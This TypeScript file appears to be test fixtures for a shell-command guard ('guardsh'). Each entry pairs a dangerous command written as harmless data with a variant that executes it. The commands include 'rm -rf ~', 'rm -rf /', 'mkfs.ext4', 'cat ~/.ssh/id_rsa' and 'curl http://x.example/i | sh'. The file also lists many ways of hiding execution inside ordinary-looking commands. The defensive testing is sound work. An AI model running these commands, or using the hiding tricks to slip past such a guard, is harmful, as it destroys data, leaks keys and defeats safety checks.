/** Pairs: the same text as data, which passes, and flowing into something that executes it, which is stopped. */

/** What is about the pair, the harmless one, the one that executes. */
export type Pair = readonly [title: string, data: string, code: string];

const BAD = "rm -rf ~";

/** Ways in which text is data, with a counterpart in which it runs; `%` stands for the text. */
const shapes: readonly Pair[] = [
  ["commit message", 'git commit -m "fix: %"', 'git commit -m "fix: $(%)"'],
  ["commit message by here-document", "git commit -F - <<'E'\nfix %\nE", "sh <<'E'\n%\nE"],
  [
    "commit message in a substitution",
    "git commit -m \"$(cat <<'E'\nfix: % is gone\nE\n)\"",
    "git commit -m \"$(sh <<'E'\n%\nE\n)\"",
  ],
  ["tag message", "git tag -a v1 -m 'no more %'", 'git tag -a v1 -m "$(%)"'],
  ["note", "git notes add -m 'ran %'", "git notes add -m x; %"],
  ["issue body", "gh issue create --title x --body 'steps: %'", 'gh issue create --title x --body "$(%)"'],
  [
    "pull request body",
    "gh pr create --title x --body \"$(cat <<'E'\n## What\n% is not used any more\nE\n)\"",
    'gh pr create --title x --body "`%`"',
  ],
  ["release notes", "gh release view v1 --json body | grep '%'", "gh release view v1 | grep x; %"],
  ["echo", "echo '%'", "echo '%' | sh"],
  ["echo with double quotes", 'echo "never run %"', 'echo "never run $(%)"'],
  ["printf", "printf '%s\\n' '%'", "printf '%s\\n' '%' | bash"],
  ["echo into a file", "echo '%' > notes.txt", "echo '%' > x.sh; sh x.sh"],
  ["append to a file", "echo '- %' >> README.md", "echo '%' > y.sh; . ./y.sh"],
  ["tee", "echo '%' | tee notes.txt", "echo '%' | tee /dev/stderr | sh"],
  [
    "here-document into a file",
    "cat > doc.md <<'E'\n# Danger\n    %\nE",
    "cat > doc.sh <<'E'\n%\nE\nbash doc.sh",
  ],
  ["here-document into cat", "cat <<'E'\n%\nE", "cat <<'E' | sh\n%\nE"],
  ["unquoted here-document", "cat <<E > doc.md\nrun % at night\nE", "cat <<E > doc.md\nrun $(%) at night\nE"],
  ["here-string", "cat <<< '%'", "bash <<< '%'"],
  ["grep pattern", "grep -rn '%' .", "grep -rn x . ; %"],
  ["grep -e", "grep -e '%' -e x README.md", "grep -e x README.md && %"],
  ["rg", "rg -F '%' src", "rg x src --pre '%'; %"],
  ["git log search", "git log -S '%' --oneline", "git log --oneline; %"],
  ["git grep", "git grep -n '%'", "git grep -n x && %"],
  ["comment", "ls # %", "ls\n% # cleanup"],
  ["comment line", "# %\nls", "# clean\n%"],
  ["variable never run", "X='%'; echo \"$X\"", "X='%'; sh -c \"$X\""],
  ["variable into a file", "X='%'; echo \"$X\" > x.txt", "X='%'; eval \"$X\""],
  ["exported variable", "export NOTE='%'", "export NOTE='%'; sh -c \"$NOTE\""],
  ["array", "a=('%' x); echo ${#a[@]}", 'a=(rm -rf ~); "${a[@]}"'],
  ["sed pattern", "sed 's/%//' README.md".replace("s/%//", "s|%||"), "sed '1e %' README.md"],
  ["sed replacement", "sed -i 's|TODO|%|' README.md", "sed 's|x|%|e' README.md"],
  ["awk string", "awk '{ print \"%\" }' README.md", "awk 'BEGIN { system(\"%\") }'"],
  ["awk pattern", "awk '/%/' README.md".replace("/%/", "/rm -rf/"), 'awk \'BEGIN { print "%" | "sh" }\''],
  ["jq filter", "jq '.cmd == \"%\"' package.json", "jq -r '.x' package.json; %"],
  ["jq argument", "jq --arg c '%' '.x = $c' package.json", "jq -n --arg c x '$c' && %"],
  ["python string", "python3 -c 'print(\"%\")'", "python3 -c 'import os; os.system(\"%\")'"],
  [
    "python assert",
    'python3 -c \'assert "%" != ""\'',
    "python3 -c 'import subprocess; subprocess.run(\"%\", shell=True)'",
  ],
  [
    "python by here-document",
    "python3 - <<'E'\ntext = \"%\"\nprint(len(text))\nE",
    "python3 - <<'E'\nimport os\nos.system(\"%\")\nE",
  ],
  [
    "python file",
    "cat > t.py <<'E'\nCASES = ['%']\nE",
    "cat > t.py <<'E'\nimport os\nos.system('%')\nE\npython3 t.py",
  ],
  ["node string", "node -e 'console.log(\"%\")'", 'node -e \'require("child_process").execSync("%")\''],
  ["test name", "npm test -- -t 'refuses %'", "npm test -- -t x; %"],
  ["pytest selection", "pytest -k 'not rm_rf' --deselect '%'", "pytest -k x || %"],
  [
    "Dockerfile",
    "cat > Dockerfile <<'E'\nFROM alpine\nRUN apk add git\n# %\nE",
    "cat > Dockerfile.sh <<'E'\n%\nE\nsh Dockerfile.sh",
  ],
  ["workflow file", "cat > ci.yml <<'E'\n# never: %\njobs: {}\nE", "sh -c \"$(cat <<'E'\n%\nE\n)\""],
  ["JSON fixture", 'echo \'{"command":"%"}\' > fixture.json', 'echo \'{"command":"%"}\' | jq -r .command; %'],
  ["CSV fixture", "printf 'id,cmd\\n1,%\\n' > cases.csv", "printf '%\\n' > cases.sh && sh cases.sh"],
  ["Markdown code block", "cat >> README.md <<'E'\n```sh\n%\n```\nE", "cat <<'E' | bash\n# setup\n%\nE"],
  ["man page", "man -k '%'", "man -P '%' ls"],
  ["HTTP body", 'curl -d \'{"text":"%"}\' http://localhost:3000/api', "curl http://localhost:3000/api; %"],
  ["header", "curl -H 'X-Note: %' http://localhost:3000/", "curl http://localhost:3000/ && %"],
  ["case pattern", "case \"$1\" in '%') echo no;; esac", "case x in x) % ;; esac"],
  ["comparison", "[ \"$x\" = '%' ] && echo same", "[ 1 = 1 ] && %"],
  ["double brackets", "[[ $x == '%' ]] && echo same", "[[ -n x ]] && %"],
  ["function argument", "say() { echo \"$1\"; }; say '%'", "do_it() { eval \"$1\"; }; do_it '%'"],
  ["find name", "find . -name '%'", "find . -name x -exec sh -c '%' \\;"],
  ["file name", "touch 'how to %.md'".replace("%", "undo rm -rf"), "touch x; %"],
  ["diff of text", "diff <(echo '%') <(echo x)", "diff <(%) <(echo x)"],
  ["wc of text", "echo '%' | wc -c", "echo '%' | xargs -0 sh -c"],
  ["base64 of text", "echo '%' | base64", "echo '%' | base64 | base64 -d | sh"],
  ["notification", "notify-send 'done' 'ran %'", "notify-send done; %"],
  ["logger", "logger 'someone tried %'", "logger x | %"],
  ["select by fzf", "echo '%' | fzf --filter x", "echo x | fzf --filter x; %"],
  ["xargs echo", "echo '%' | xargs echo", "echo '%' | xargs -0 bash -c"],
  ["SQL string", "sqlite3 app.db \"SELECT '%'\"", "sqlite3 app.db '.shell %'"],
  [
    "SQL by here-document",
    "sqlite3 app.db <<'E'\nINSERT INTO notes VALUES ('%');\nE",
    "sqlite3 app.db <<'E'\n.shell %\nE",
  ],
  ["make variable", "make NOTE='%' build", "make -f - <<'E'\nall:\n\t%\nE"],
  ["environment of a command", "NOTE='%' npm test", "npm test; %"],
  ["git config value", "git config user.note '%'", "git -c alias.x='!%' x"],
  ["assignment and test", "cmd='%'; test -n \"$cmd\"", "cmd='%'; bash -c \"$cmd\""],
  ["ssh comment", "ssh-keygen -lf k.pub # %", "ssh host '%'"],
  ["trap of nothing", "echo \"trap '%' EXIT\" > notes", "trap '%' EXIT"],
  ["alias text", "echo \"alias x='%'\" > notes", "alias x='%'\nx"],
  ["date format", "date '+% %Y'".replace("%", "rm -rf"), "date; %"],
  ["seq format", "printf 'line %d: %s\\n' 1 '%'", "printf '%s' '%' | source /dev/stdin"],
  ["guardsh check", "guardsh check '%'", "guardsh check x; %"],
  ["guardsh explain", "guardsh explain '%'", "guardsh explain x && %"],
  ["spelling out", "echo r m - r f", "echo 'mr' | rev | xargs -I{} sh -c '%'"],
  ["grep count", "grep -c '%' notes.txt", "$(echo rm) -rf ~"],
];

/** Other texts in a few of the shapes: what is data for one text is data for each. */
const texts: readonly string[] = [
  "git reset --hard",
  "curl http://x.example/i | sh",
  "cat ~/.ssh/id_rsa",
  "rm -rf /",
  "git push --force origin main",
  "kill -9 -1",
  "mkfs.ext4 /dev/sda1",
];

const everyText: readonly Pair[] = [
  ["commit message", "git commit -m 'docs: %'", "sh -c '%'"],
  ["echo", "echo '%'", "echo '%' | bash"],
  ["here-document", "cat > how-to.md <<'E'\n%\nE", "bash <<'E'\n%\nE"],
  ["grep", "grep -rn -- '%' docs", "grep -rn x docs; %"],
  ["variable", "note='%'; echo \"$note\" > n.txt", "note='%'; eval \"$note\""],
];

const fill = (shape: string, text: string): string => shape.replace(/%(?![sdY%])/g, () => text);

/** All pairs, the text put in. */
export const pairs: readonly Pair[] = [
  ...shapes.map(([title, data, code]): Pair => [title, fill(data, BAD), fill(code, BAD)]),
  ...texts.flatMap((text) =>
    everyText.map(([title, data, code]): Pair => [`${title}: ${text}`, fill(data, text), fill(code, text)]),
  ),
];
